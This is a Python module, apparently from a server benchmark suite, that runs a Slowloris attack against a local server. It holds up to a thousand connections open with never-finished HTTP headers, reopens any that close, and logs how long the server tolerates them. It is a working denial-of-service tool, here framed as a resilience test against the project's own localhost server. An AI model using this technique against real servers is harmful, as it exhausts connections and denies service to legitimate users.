"""Slowloris clients for bench/hostile.py, in a process of their own so that they do not perturb
the load generator: `--connections` connections that each send a partial request head, then one
more header line every `--interval` s and never the blank line that ends it. A connection the
server closes (EOF or reset) is opened again at once, so that many stay open or attacking.

    python bench/_slowloris.py PORT --connections 1000 --interval 3 --host backend:8080

Every REPORT_EVERY s, and once more on SIGTERM, one JSON line on stdout: `t` (s since the
start), `monotonic` (CLOCK_MONOTONIC, the clock of time.perf_counter in every process), `open`
(connected now), `connects`, `closed` (by the server), `answered` (closed after sending bytes,
e.g. a 408), `connect_errors`, `held_median_s` / `held_max_s` (how long the server held the
connections it closed).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import signal
import statistics
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from _procs import Service

REPORT_EVERY = 0.5  # seconds
RAMP = 1.0  # seconds over which the first connections are opened
RETRY_PAUSE = 0.05  # seconds after a refused connect before the next one


@dataclass
class Tally:
    started: float = field(default_factory=time.monotonic)
    open: int = 0
    connects: int = 0
    closed: int = 0
    answered: int = 0
    connect_errors: int = 0
    held_s: list[float] = field(default_factory=list)

    def line(self, **extra: Any) -> str:
        held = self.held_s
        return json.dumps({
            "t": round(time.monotonic() - self.started, 3),
            "monotonic": round(time.monotonic(), 4), "open": self.open,
            "connects": self.connects, "closed": self.closed, "answered": self.answered,
            "connect_errors": self.connect_errors,
            "held_median_s": round(statistics.median(held), 2) if held else None,
            "held_max_s": round(max(held), 2) if held else None, **extra,
        })  # fmt: skip


async def _hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, host: str,
                interval: float, tally: Tally) -> None:
    """Feed the head one line per `interval` until the server closes; count how it did."""
    writer.write(f"GET /slowloris HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowloris\r\n".encode())
    line = 0
    while True:
        try:
            data = await asyncio.wait_for(reader.read(4096), interval)
        except TimeoutError:
            writer.write(f"X-Slow-{line}: {line}\r\n".encode())
            line += 1
            await writer.drain()
            continue
        if not data:
            return
        tally.answered += 1  # an answer (400, 408, ...): read on until the server closes
        while await reader.read(4096):
            pass
        return


async def attacker(index: int, *, port: int, host: str, interval: float, count: int,
                   tally: Tally) -> None:  # fmt: skip
    await asyncio.sleep(RAMP * index / count)
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            tally.connect_errors += 1
            await asyncio.sleep(RETRY_PAUSE)
            continue
        tally.connects += 1
        tally.open += 1
        opened = time.monotonic()
        try:
            await _hold(reader, writer, host=host, interval=interval, tally=tally)
        except OSError:
            pass  # a reset: closed by the server too
        finally:
            tally.open -= 1
            writer.close()
        tally.closed += 1
        tally.held_s.append(time.monotonic() - opened)


async def attack(*, port: int, host: str, connections: int, interval: float) -> None:
    tally = Tally()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    tasks = [asyncio.create_task(attacker(i, port=port, host=host, interval=interval,
                                          count=connections, tally=tally))
             for i in range(connections)]  # fmt: skip
    while not stop.is_set():
        print(tally.line(), flush=True)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), REPORT_EVERY)
    print(tally.line(final=True), flush=True)
    for task in tasks:
        task.cancel()


def raise_open_files() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class Slowloris(Service):
    """The attacking process; its JSON lines read back from its log."""

    def samples(self) -> list[dict[str, Any]]:
        samples = []
        for text in self.log.read_text(errors="replace").splitlines():
            with contextlib.suppress(ValueError):
                samples.append(json.loads(text))
        return samples

    def last(self) -> dict[str, Any]:
        samples = self.samples()
        return samples[-1] if samples else {}

    def wait_open(self, count: int, *, timeout: float) -> dict[str, Any]:
        """The first sample with `count` connections open (RuntimeError after `timeout`)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if not self.alive():
                raise RuntimeError(f"slowloris exited:\n{self.log_tail()}")
            sample = self.last()
            if sample.get("open", 0) >= count:
                return sample
            time.sleep(0.1)
        raise RuntimeError(f"slowloris: {self.last().get('open')} of {count} open "
                           f"after {timeout} s")  # fmt: skip


def start(workdir: Path, *, port: int, host: str, connections: int, interval: float,
          name: str = "slowloris") -> Slowloris:  # fmt: skip
    workdir.mkdir(parents=True, exist_ok=True)
    argv = [sys.executable, __file__, str(port), "--host", host, "--connections",
            str(connections), "--interval", str(interval)]  # fmt: skip
    return Slowloris(name, argv, log=workdir / f"{name}.log", cwd=workdir)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--host", default="backend:8080")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=3.0)
    args = parser.parse_args()
    raise_open_files()
    asyncio.run(attack(port=args.port, host=args.host, connections=args.connections,
                       interval=args.interval))  # fmt: skip


if __name__ == "__main__":
    main()
